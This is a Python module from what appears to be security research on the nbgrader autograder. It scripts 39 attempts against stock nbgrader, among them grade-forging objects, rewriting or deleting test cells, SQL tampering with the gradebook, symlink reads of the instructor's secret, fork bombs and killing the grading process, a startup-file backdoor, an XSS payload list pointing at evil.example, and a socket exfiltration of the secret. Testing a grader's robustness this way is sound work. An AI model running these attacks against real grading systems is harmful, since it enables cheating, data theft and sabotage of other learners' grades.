"""N: what was tried on stock nbgrader (research/grading.md, section 4), in the same order; and an honest answer that it punishes.

The code stands in the first answer's cell, as a learner would leave it, beside a snapshot of untouched work: any point is too many.
"""

from __future__ import annotations

import os
from functools import partial

from attacks.attack import Attempt, attack
from attacks.classroom import DAEMON, EXERCISE, MANUAL, Classroom

on_stock = partial(attack, stock=True)

EVIL = (
    "<script>alert(1)</script>\n\n```\n\n````\n<img src=http://evil.example/x onerror=alert(2)>\n\n"
    "![x](http://evil.example/y) <style>@import 'http://evil.example/z';</style> <svg onload=alert(3)></svg> "
    "[here](javascript:alert(4)) <iframe srcdoc='<script>alert(5)</script>'></iframe>"
)
"""What would run or load something in the browser of whoever reads it."""


@on_stock("N01", "an object that equals everything")
def equals_everything(one: Attempt) -> None:
    """Replace what the tests call by an object whose every comparison is true."""
    one.run("class Yes:\n    __eq__ = lambda *a: True\n    __repr__ = lambda s: 'yes'\ngrade = lambda n: Yes()")


@on_stock("N02", "an IPython transformer turns later cells into `pass`")
def transformer(one: Attempt) -> None:
    """Let no later cell be what it says."""
    one.run("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")


@on_stock("N03", "the locked tests rewritten in the file")
def rewritten_tests(one: Attempt) -> None:
    """Put the wished result into the cells that give points."""
    for cell in one.graded:
        cell["source"] = "4.0"


@on_stock("N04", "the tag `skip-execution` on the tests")
def skipped(one: Attempt) -> None:
    """Ask nbclient to leave the tests out."""
    for cell in one.graded:
        cell["metadata"]["tags"] = ["skip-execution"]


@on_stock("N05", "the test cells deleted")
def deleted(one: Attempt) -> None:
    """Hand in what has no tests."""
    one.notebook["cells"] = [cell for cell in one.notebook["cells"] if cell not in one.graded]


@on_stock("N06", "100 points written into the notebook")
def hundred_points(one: Attempt) -> None:
    """Raise what the tests are worth."""
    for cell in one.graded:
        cell["metadata"]["nbgrader"]["points"] = 100


@on_stock("N07", "test cells marked as answers")
def marked_solution(one: Attempt) -> None:
    """Say that the tests were the learner's to write."""
    for cell in one.graded:
        cell["metadata"]["nbgrader"] |= {"solution": True, "checksum": "0"}


@on_stock("N08", "a question for a human marked as graded by machine")
def human_as_machine(one: Attempt) -> None:
    """Let the empty answer to a question be taken for a test that passed."""
    one.cell(MANUAL)["metadata"]["nbgrader"]["solution"] = False


@on_stock("N09", "print the instructor's secret, the gradebook, another's answer")
def print_secrets(one: Attempt) -> None:
    """Show in the feedback what only the instructor may read."""
    others = one.room.grading / "submitted" / "aa-full" / EXERCISE / f"{EXERCISE}.ipynb"
    one.run(f"for p in {[str(one.room.secret), str(others)]!r}:\n    print(open(p).read()[-200:])")


def _sql(one: Attempt, statement: str) -> None:
    one.run(
        f"import sqlite3\nc = sqlite3.connect({str(one.room.grading / 'gradebook.db')!r})\n"
        f"c.execute({statement!r})\nc.commit()"
    )


@on_stock("N10", "UPDATE of one's own points in the gradebook", harm=lambda room, who: _any_manual(room, who))
def update_own(one: Attempt) -> None:
    """Write points where a human's would stand."""
    _sql(one, "UPDATE grade SET manual_score = 3")


def _any_manual(room: Classroom, who: str) -> str:
    given = [name for name, seen in room.seen().items() if any(seen.manual.values())]
    return f"points in the column of the human's: {given}" if given else ""


@on_stock("N11", "UPDATE of another learner's points to 0", harm=lambda room, who: _zeroed(room))
def update_other(one: Attempt) -> None:
    """Take away what another has."""
    _sql(one, "UPDATE grade SET manual_score = 0, auto_score = 0")


def _zeroed(room: Classroom) -> str:
    seen = room.seen().get("aa-full")
    if seen is None:
        return ""
    return f"aa-full has {seen.manual}" if any(given is not None for given in seen.manual.values()) else ""


@on_stock("N12", "writing into the gradebook's master tests", harm=lambda room, who: _own_table(room))
def own_table(one: Attempt) -> None:
    """Change what everybody is graded by."""
    _sql(one, "CREATE TABLE pwned AS SELECT * FROM source_cell")


def _own_table(room: Classroom) -> str:
    import sqlite3

    base = sqlite3.connect(room.grading / "gradebook.db")
    found = base.execute("SELECT name FROM sqlite_master WHERE name = 'pwned'").fetchall()
    base.close()
    return "a table of the learner's is in the gradebook" if found else ""


@on_stock("N13", "sys.exit(0)")
def exits(one: Attempt) -> None:
    """End politely."""
    one.run("import sys\nsys.exit(0)")


@on_stock("N14", "os._exit(0)")
def exits_hard(one: Attempt) -> None:
    """End the process that grades."""
    one.run("import os\nos._exit(0)")


@on_stock("N15", "an endless loop")
def loops(one: Attempt) -> None:
    """Cost time."""
    one.run("while True: pass")


@on_stock("N16", "an endless loop that can't be interrupted")
def loops_deaf(one: Attempt) -> None:
    """Cost more time."""
    one.run("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass")


@on_stock("N17", "20 children that outlive")
def children(one: Attempt) -> None:
    """Stay behind on the grader's machine."""
    body = f"import sys, time; time.sleep(200)  # {DAEMON}"
    one.run(
        f"import subprocess, sys\nfor _ in range(20):\n    subprocess.Popen([sys.executable, '-c', {body!r}], start_new_session=True)"
    )


@on_stock("N18", "a file of 60 MB")
def large_file(one: Attempt) -> None:
    """Fill the disk."""
    one.run("open('pwned-large.bin', 'wb').truncate(60_000_000)")


@on_stock("N19", "a forged result, published before the test ends")
def forged_result(one: Attempt) -> None:
    """Let the first result that is seen be the learner's own."""
    one.run(
        "from IPython import get_ipython\nip = get_ipython()\ndef before(*a):\n"
        "    ip.display_pub.session.send(ip.kernel.iopub_socket, 'execute_result', {'data': {'text/plain': '4.0'}, 'metadata': {},"
        " 'execution_count': 1}, parent=ip.parent_header)\nip.events.register('pre_run_cell', before)"
    )


@on_stock("N20", "print what a full score looks like")
def prints_points(one: Attempt) -> None:
    """Say it, at least."""
    one.run("grade = lambda n: print('4.0')\nprint('4.0')")


@on_stock("N21", "a link to the instructor's secret beside the notebook")
def linked_secret(one: Attempt) -> None:
    """Let nbgrader copy what the link leads to into the feedback."""
    (one.folder / "notes.txt").symlink_to(one.room.secret)


@on_stock("N22", "a notebook and a snapshot that are links to another learner's", "human", "as a link")
def linked_work(one: Attempt) -> None:
    """Hand in what another made."""
    other = one.room.grading / "submitted" / "aa-full" / EXERCISE
    for name in (f"{EXERCISE}.ipynb", f"{EXERCISE}.snapshot"):
        (one.folder / name).symlink_to(other / name)
    one.snapshot, one.write_notebook = None, False


@on_stock("N23", "a link made while grading, to a script of the instructor's")
def linked_victim(one: Attempt) -> None:
    """Let nbgrader take the execute bit off what isn't the learner's."""
    one.run(f"import os\nos.symlink({str(one.room.victim)!r}, 'run.sh')")


@on_stock("N24", "an environment whose interpreter is a link to the course's")
def linked_interpreter(one: Attempt) -> None:
    """Let nbgrader disable the Python that runs it."""
    (one.folder / "mine" / "bin").mkdir(parents=True)
    (one.folder / "mine" / "bin" / "python").symlink_to(one.room.interpreter)


@on_stock("N25", "a forged timestamp of 1999", harm=lambda room, who: _too_early(room, who))
def old_timestamp(one: Attempt) -> None:
    """Have been in time."""
    (one.folder / "timestamp.txt").write_text("1999-01-01 00:00:00 UTC")


def _too_early(room: Classroom, who: str) -> str:
    import sqlite3

    base = sqlite3.connect(room.grading / "gradebook.db")
    rows = base.execute(
        "SELECT timestamp FROM submitted_assignment JOIN student ON student.id = student_id WHERE student.id = ?",
        (who,),
    )
    early = [stamp for (stamp,) in rows if stamp and stamp < "2001"]
    base.close()
    return f"counts as handed in on {early[0]}" if early else ""


@on_stock("N26", "a timestamp that is garbage")
def garbage_timestamp(one: Attempt) -> None:
    """Break the grading of oneself or of others."""
    (one.folder / "timestamp.txt").write_bytes(b"\xff\x00 yesterday; DROP TABLE grade")


@on_stock("N27", "scripts in text and output")
def scripts(one: Attempt) -> None:
    """Run something in the instructor's browser, or the learner's."""
    one.notebook["cells"] += [
        {"cell_type": "markdown", "id": "evil-1", "metadata": {}, "source": EVIL},
        {
            "cell_type": "code",
            "id": "evil-2",
            "metadata": {},
            "source": f"from IPython.display import HTML\nHTML({EVIL!r})",
            "execution_count": 1,
            "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": EVIL}}],
        },
    ]


@on_stock("N28", "a start-up file in the instructor's IPython profile")
def profile(one: Attempt) -> None:
    """Give full points to whoever is graded next."""
    one.run(
        "import pathlib\np = pathlib.Path.home() / '.ipython/profile_default/startup'\np.mkdir(parents=True, exist_ok=True)\n"
        "(p / '00-pwned.py').write_text('import builtins; builtins.grade = lambda n: None')"
    )


@on_stock("N29", "SIGKILL to the process that grades")
def kills_parent(one: Attempt) -> None:
    """Leave the rest of the class ungraded."""
    one.run("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")


@on_stock("N30", "the hidden tests read from the disk")
def reads_tests(one: Attempt) -> None:
    """Read what shall be tested, and define it so that it passes."""
    source = one.room.root / "solutions" / EXERCISE / f"{EXERCISE}.ipynb"
    one.run(f"import json\njson.load(open({str(source)!r}))\ngrade = lambda n: 4.0 if n != 3 else 3.0")


@on_stock("N31", "another learner's submitted notebook edited", harm=lambda room, who: _marker(room))
def edits_other(one: Attempt) -> None:
    """Put something into what another handed in."""
    other = one.room.grading / "submitted" / "zz-full" / EXERCISE / f"{EXERCISE}.ipynb"
    one.run(f"p = {str(other)!r}\nt = open(p).read().replace('Type your', 'pwned by')\nopen(p, 'w').write(t)")


def _marker(room: Classroom) -> str:
    other = room.grading / "submitted" / "zz-full" / EXERCISE / f"{EXERCISE}.ipynb"
    return "zz-full's notebook was edited" if "pwned by" in other.read_text() else ""


@on_stock("N32", "the secret sent over the network")
def calls_home(one: Attempt) -> None:
    """Carry something out."""
    one.run(
        f"import socket\ns = socket.create_connection(('127.0.0.1', {one.room.port}), 5)\n"
        f"s.sendall(open({str(one.room.secret)!r}, 'rb').read())\ns.close()"
    )


@on_stock("N33", "a result of 99 points")
def ninety_nine(one: Attempt) -> None:
    """Give more than there is."""
    one.run("grade = lambda n: 99.0")


@on_stock("N34", "a result of -1 points")
def minus_one(one: Attempt) -> None:
    """Give what stock takes for full points."""
    one.run("grade = lambda n: -1.0")


@on_stock("N35", "no attack: a right answer that prints one line to stderr", deserves="full")
def honest_but_loud(one: Attempt) -> None:
    """Get 0 where a warning costs everything."""
    for cell in one.graded:
        cell["source"] = ["import sys; print('a warning', file=sys.stderr)\n", *cell["source"]]
    one.run("import sys\nprint('a warning', file=sys.stderr)")


@on_stock("N36", "cells that are no cells: wrong kinds, half a surrogate pair, two of one id")
def strange_cells(one: Attempt) -> None:
    """Break whoever reads it."""
    one.notebook["cells"] += [
        *(None, 3, {"cell_type": "spam"}, {"cell_type": "code"}),
        {"cell_type": "code", "source": [1, "x\udc80"], "metadata": {"nbgrader": {"grade_id": ["task-1"]}}},
        {"cell_type": "markdown", "source": {}, "metadata": []},
        one.cell("task-1"),
        {"cell_type": "raw", "source": "r", "metadata": {"nbgrader": 7}, "id": "<b>"},
    ]
    one.notebook["nbformat"] = "many"


@on_stock("N37", "points that are no number: NaN, infinity, 1e308, a text")
def no_number(one: Attempt) -> None:
    """Let arithmetic do what a forger can't."""
    for cell, points in zip(one.graded, (float("nan"), float("inf"), 1e308, "all"), strict=False):
        cell["metadata"]["nbgrader"]["points"] = points
        cell["outputs"] = [
            {"output_type": "execute_result", "data": {"text/plain": "nan"}, "metadata": {}, "execution_count": 1}
        ]


@on_stock("N38", "JSON nested 100,000 deep in place of the notebook")
def nested(one: Attempt) -> None:
    """Overflow whoever reads it."""
    one.write_notebook = False
    (one.folder / f"{EXERCISE}.ipynb").write_text("[" * 100_000)


@on_stock("N39", "a second notebook that nobody released")
def second_notebook(one: Attempt) -> None:
    """Have something graded that was never asked for."""
    (one.folder / "more.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    os.utime(one.folder / "more.ipynb", (0, 0))
